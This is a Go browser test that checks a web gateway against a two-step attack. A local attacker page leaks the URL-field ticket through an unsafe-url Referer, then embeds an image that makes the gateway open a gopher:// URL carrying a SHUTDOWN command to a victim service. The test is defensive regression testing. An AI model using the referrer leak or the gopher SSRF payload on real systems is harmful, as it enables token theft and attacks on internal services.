package browsertest

import (
	"fmt"
	"net"
	"net/http"
	neturl "net/url"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/chromedp"
)

// Content does not learn the ticket of the field from the address of its page, which a link may send to its server. A
// picture in content does not open a private address with such a ticket either.
func TestBrowserBorrowedTicket(t *testing.T) {
	// attack: Content sends the address of its page to its server by a link with `referrerpolicy`, to learn a ticket of
	// the field, and uses the ticket in a picture
	t.Parallel()
	v := startVictim(t, "127.0.0.3")
	at := startOpen(t)
	var ticket atomic.Value
	ticket.Store("")
	l, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Fatal(err)
	}
	site := "http://" + l.Addr().String()
	server := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, "<!DOCTYPE html><link rel=icon href='data:,'><title>a site</title>")
		switch r.URL.Path {
		case "/caught":
			if from, err := neturl.Parse(r.Referer()); err == nil {
				ticket.Store(from.Query().Get("ticket"))
			}
			fmt.Fprintf(w, "caught")
		case "/attack":
			fmt.Fprintf(w, `<p>attack<img alt="" src="/-/open?ticket=%s&url=%s">`, r.URL.Query().Get("ticket"), neturl.QueryEscape("gopher://"+v.addr+"/0SHUTDOWN"))
		default:
			fmt.Fprintf(w, `<meta name="referrer" content="unsafe-url"><a id="go" referrerpolicy="unsafe-url" href="%s/caught">go</a>`, site)
		}
	})}
	go server.Serve(l) // Serve returns when the test closes the server
	t.Cleanup(func() { server.Close() })
	b := newBrowser(t)
	b.follow(chromedp.Navigate(at))
	own := value[string](b, `document.querySelector("header input[name=ticket]").value`)
	b.do(chromedp.Focus(chromedp.ID("url")), chromedp.KeyEvent(site+"/a/../page"))
	b.untilFormCounts()
	if status, text := b.follow(enter()); status != http.StatusOK || !strings.Contains(text, "go") {
		t.Fatalf("the URL in the field = %d, %q", status, text)
	}
	if status, text := b.follow(chromedp.Click(chromedp.ID("go"))); status != http.StatusOK || !strings.Contains(text, "caught") {
		t.Fatalf("the link = %d, %q", status, text)
	}
	if caught := ticket.Load(); caught != "" {
		t.Errorf("the server of the content has caught the ticket %q", caught)
	}
	if status, text := b.answer(at + site + "/attack?ticket=" + own); status != http.StatusOK || !strings.Contains(text, "attack") {
		t.Fatalf("the page with the picture = %d, %q", status, text)
	}
	b.until("the picture is loaded or refused", `document.images[0].complete`)
	v.isUntouched(t, "a picture with the ticket of the field")
}

// untilFormCounts waits until the gateway trusts the form with the field, because it does not trust a form that the user
// has seen for less than a second.
func (b *browser) untilFormCounts() {
	b.t.Helper()
	b.until("the form counts", `performance.now() > 2000`)
}
